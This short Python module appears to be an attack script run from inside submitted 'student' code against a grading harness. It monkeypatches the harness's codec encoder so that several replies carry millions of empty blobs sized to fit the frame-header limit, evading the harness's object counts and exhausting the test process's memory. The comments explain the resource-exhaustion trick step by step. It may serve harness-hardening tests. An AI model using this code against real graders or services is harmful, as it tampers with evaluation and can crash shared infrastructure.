import sys

HEADER_BYTES = (8 << 20) - 4096  # the reply's frame header may hold 8 MiB; its own keys take a few bytes
BLOBS = HEADER_BYTES // 3  # json.dumps writes each size as "0, ": 3 bytes a blob, 2.8 million blobs
REPLIES = 4  # replies sent so (each a failed test of Problem 1)
_sent = []  # the replies replaced so far
_armed = []  # calls of bytes_per_element whose reply is still to be replaced


def _replace_encoder(codec):
    """The worker's encoder (it runs in this process, beside the student's code) sends, instead of the value
    of this function's reply (and of no other problem's), REPLIES times, the value None with BLOBS empty
    blobs: the frame's header lists their sizes, 8 MiB of zeros, within the header's bound, and no count of
    lists and objects sees them (one list). The test process's read_frame reads each into a bytearray of
    its own (57 bytes) and keeps the list alive while the value is decoded."""
    if getattr(codec, "empty_blobs_armed", False):
        return
    original = codec.encode
    blobs = [b""] * BLOBS

    def encode(value):
        if _armed:
            _armed.clear()
            _sent.append(BLOBS)
            return "null", blobs
        return original(value)

    codec.encode = encode
    codec.empty_blobs_armed = True


def attack(args):
    codec = sys.modules.get("adapters._codec")
    if codec is not None:
        _replace_encoder(codec)
        if len(_sent) < REPLIES:
            _armed.append(True)
    return None  # the function's own body runs on: its honest answer is replaced on the wire
